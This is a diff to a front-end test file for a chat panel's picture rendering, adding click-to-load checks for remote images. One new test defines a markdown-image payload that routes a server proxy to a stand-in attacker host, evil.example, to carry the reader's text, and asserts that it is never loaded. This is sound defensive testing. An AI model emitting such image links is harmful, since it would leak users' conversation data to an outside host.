@@ -119,20 +119,74 @@ describe('chat §2 pictures', () => {
     expect(document.querySelector('img[src="https://pictures.example/cat.png"]')).toBeTruthy();
   });
 
-  it('from another origin are requested at the URL of the host, and link to their own address', async () => {
-    const remotePictureUrl = (address: string) => `/fetched?${encodeURIComponent(address)}`;
-    await openPanel({ history: turn(1, { content: '![dog](https://pictures.example/dog.png)' }), remotePictureUrl });
+  it('from another origin are loaded from the URL that the host returns after the click, and link to their own', async () => {
+    const asked: unknown[] = [];
+    const remotePictureUrl = async (picture: { url: string; messageId: string }) => {
+      asked.push(picture);
+      return '/api/picture/remote?signature=s';
+    };
+    const { settled } = await openPanel({
+      history: turn(1, { content: '![dog](https://pictures.example/dog.png)' }),
+      remotePictureUrl,
+    });
+    await settled();
+    expect(asked).toEqual([]);
     fireEvent.click(screen.getByRole('button', { name: /dog.*Load from pictures.example/ }));
+    await settled();
+    expect(asked).toEqual([{ url: 'https://pictures.example/dog.png', messageId: 'answer-1' }]);
     const picture = screen.getByRole('img', { name: 'dog' });
-    expect(picture.getAttribute('src')).toBe('/fetched?https%3A%2F%2Fpictures.example%2Fdog.png');
+    expect(picture.getAttribute('src')).toBe('/api/picture/remote?signature=s');
+    fireEvent.click(screen.getByRole('button', { name: 'Enlarge: dog' }));
+    await settled();
+    expect(document.querySelector('dialog img')?.getAttribute('src')).toBe('/api/picture/remote?signature=s');
+    expect(asked).toHaveLength(1);
     fireEvent.error(picture);
     expect(screen.getByRole('link', { name: 'Open in a new window' }).getAttribute('href')).toBe(
       'https://pictures.example/dog.png',
     );
   });
 
+  it('from another origin have a placeholder when the host returns no URL', async () => {
+    const remotePictureUrl = () => Promise.reject(new Error('refused'));
+    const { settled } = await openPanel({
+      history: turn(1, { content: '![dog](https://pictures.example/dog.png)' }),
+      remotePictureUrl,
+    });
+    fireEvent.click(screen.getByRole('button', { name: /dog.*Load from pictures.example/ }));
+    await settled();
+    expect(screen.getByText('The picture could not be loaded')).toBeTruthy();
+  });
+
+  describe('at an address of our server that passes on what it is asked for', () => {
+    const LEAK = '/api/picture/remote?url=https%3A%2F%2Fevil.example%2F%3Fwhat-the-reader-wrote';
+    const leaks = () => [...document.querySelectorAll('[src*="remote"], [href*="remote"], [style*="remote"]')];
+
+    it('are not loaded in an answer, an opening, a name or a card', async () => {
+      const card = { x_properties: {}, question: `Which? ![x](${LEAK})`, options: ['A'] };
+      const bot = {
+        id: 'bot-1',
+        nickname: `![x](${LEAK})`,
+        url: LEAK,
+        userLabel: { icon_url: LEAK, label_name: 'Badge', jump_link: '' },
+      };
+      await openPanel({
+        history: [
+          ...turn(1, { content: `![x](${LEAK}) ![y](https://own.invalid) <img src="${LEAK}">` }),
+          ...turn(2, { content_type: 'card', content: JSON.stringify(card) }),
+          ...turn(3, { content_type: 'image', content: JSON.stringify({ image_list: [image('key', LEAK)] }) }),
+        ],
+        init: { prologue: `Hello ![x](${LEAK})`, botInfoMap: { 'bot-1': bot } },
+        showUserExtendedInfo: true,
+      });
+      expect(screen.getAllByText(/Hello/)).toHaveLength(1);
+      expect(await screen.findByText(/Which\?/)).toBeTruthy();
+      expect(screen.getAllByText('The picture could not be loaded')).toHaveLength(4);
+      expect(leaks()).toEqual([]);
+    });
+  });
+
   it('from another origin are not loaded when the lightbox reaches them', async () => {
-    await openPictures('/files/1.png', 'https://pictures.example/spy.png');
+    await openPictures('/api/object/1', 'https://pictures.example/spy.png');
     fireEvent.click(screen.getByRole('button', { name: 'Enlarge: Picture from Curly' }));
     fireEvent.click(screen.getByRole('button', { name: 'Next picture', hidden: true }));
     expect(document.querySelector('img[src*="spy"]')).toBeNull();
@@ -142,17 +196,17 @@ describe('chat §2 pictures', () => {
   });
 
   it('have the name of their sender, one large and several in two columns', async () => {
-    await openPictures('/files/1.png');
+    await openPictures('/api/object/1');
     const pictures = () => screen.getAllByRole('button', { name: 'Enlarge: Picture from Curly' });
     expect(pictures()[0]?.className).toContain('large');
     cleanup();
-    await openPictures('/files/1.png', '/files/2.png', '/files/3.png');
+    await openPictures('/api/object/1', '/api/object/2', '/api/object/3');
     expect(pictures().map(({ className }) => className.includes('tile'))).toEqual([true, true, true]);
     expect(pictures()[0]?.parentElement?.className).toBe('grid');
   });
 
   it('open in the lightbox', async () => {
-    await openPictures('/files/1.png', '/files/2.png');
+    await openPictures('/api/object/1', '/api/object/2');
     fireEvent.click(screen.getAllByRole('button', { name: 'Enlarge: Picture from Curly' })[0] as HTMLElement);
     expect(screen.getByText('1 of 2')).toBeTruthy();
     fireEvent.click(screen.getByRole('button', { name: 'Next picture', hidden: true }));
@@ -162,7 +216,7 @@ describe('chat §2 pictures', () => {
   });
 
   it('have a placeholder after an error, and after 10 s', async () => {
-    const { settled } = await openPictures('/files/1.png', '/files/2.png');
+    const { settled } = await openPictures('/api/object/1', '/api/object/2');
     const [first] = screen.getAllByRole('button', { name: 'Enlarge: Picture from Curly' });
     fireEvent.error(first?.querySelector('img') as HTMLElement);
     expect(screen.getAllByText('The picture could not be loaded')).toHaveLength(1);
@@ -226,7 +280,7 @@ describe('chat §2 mixed content', () => {
   it('has files, pictures and text below the quote', async () => {
     const content = JSON.stringify({
       item_list: [
-        { type: 'image', image: image('k', '/files/1.png') },
+        { type: 'image', image: image('k', '/api/object/1') },
         { type: 'file', file: { file_key: 'f', file_name: 'a.zip', file_type: 'archive', file_size: 3 } },
         { type: 'text', text: '**What are these?**' },
       ],
